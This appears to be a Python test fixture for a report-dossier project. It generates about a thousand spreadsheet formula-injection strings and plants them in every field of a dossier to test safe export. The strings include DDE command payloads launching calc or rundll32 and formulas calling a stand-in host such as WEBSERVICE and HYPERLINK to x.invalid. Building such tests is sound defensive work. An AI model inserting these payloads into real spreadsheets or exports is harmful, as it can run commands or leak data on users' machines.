"""Texts that a spreadsheet might take for something else than text, and a dossier that is full of them."""

from __future__ import annotations

from dataclasses import replace
from itertools import islice, product

from kg.report.dossier.dossier import Dossier, Response
from kg.rules.finding import Finding

_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "'=",
    '"=',
    ";=",
    ",=",
    '";"=',
    ",\t=",
    "a;=",
    "b,+",
    "c\n@",
)
_BODIES = (
    *r"""1+1
HYPERLINK("http://x.invalid/?"&A1,"klik")
cmd|' /C calc'!A0
DDE("cmd";"/C calc";"x")
SUM(1,1)
WEBSERVICE("http://x.invalid")
IMPORTXML("http://x.invalid","//a")
MSEXCEL|'\..\..\calc.exe'!A1
A1
-2
rundll32|'x.dll'!A
@SUM(A1)
1;=2
1,=2
#REF!
TRUE()
{1,2}
_x003D_1
<f>1</f>
]]>&lt;f&gt;
２＋２
EXEC("calc")
T("a")
RTD("x",,"y")
CALL("x")
1%
Rp5
ñ💥
INFO("directory")
CELL("filename")
REGISTER("a")
FORMULATEXT(A1)
INDIRECT("A1")
OFFSET(A1,1,1)
ENCODEURL("a")
FILTERXML("a","b")
LET(x,1,x)
LAMBDA(x,x)(1)
IMAGE("http://x.invalid/a.png")
1E5
0x1
''
CHAR(61)""".splitlines(),
    "\x00\x1b[31m",
    "\u202e1",
    "\ud800",
    "x" * 40,
    " ",
)

#: A thousand and some.
TEXTS: tuple[str, ...] = tuple(start + body for start, body in product(_STARTS, _BODIES))


def _hostile(found: Finding, text: str) -> Finding:
    both = {"id": text, "en": text}
    source = replace(found.source, document=text, sheet=text, cell=text, text=text)
    return replace(
        found,
        label=text,
        path=(text, text),
        value=text,
        message=both,
        remedy=both,
        basis=(text,),
        source=source,
        kecamatan=text,
    )  # type: ignore[arg-type]


def hostile(dossier: Dossier) -> Dossier:
    """The dossier with one hostile text in every field of every finding, in answers, in facts and in inputs."""
    texts = iter(TEXTS * 3)
    report = dossier.report
    units = tuple(
        replace(u, findings=tuple(_hostile(f, next(texts)) for f in u.findings))
        for u in report.units
    )
    answers = {
        f.id: Response(f.id, t, t, t, t, t, t, t)
        for f, t in zip(report.findings, TEXTS, strict=False)
    }
    answers |= {
        f"{n:016x}": Response(f"{n:016x}", t, t, t, t, t, t, t) for n, t in enumerate(TEXTS)
    }
    facts = tuple(
        replace(
            u,
            name=next(texts),
            indicators=tuple(
                replace(i, label=t, formula=t, unit=t)
                for i, t in zip(u.indicators, islice(texts, 200), strict=False)
            ),
            posts=tuple(
                replace(p, label=t, superior=t, result_labels=(t,))
                for p, t in zip(u.posts, islice(texts, 50), strict=False)
            ),
        )
        for u in dossier.facts
    )
    inputs = tuple(replace(i, path=t) for i, t in zip(report.inputs, TEXTS, strict=False))
    return replace(
        dossier,
        report=replace(report, units=units, inputs=inputs),
        facts=facts,
        responses=answers,
        command=TEXTS[:3],
    )
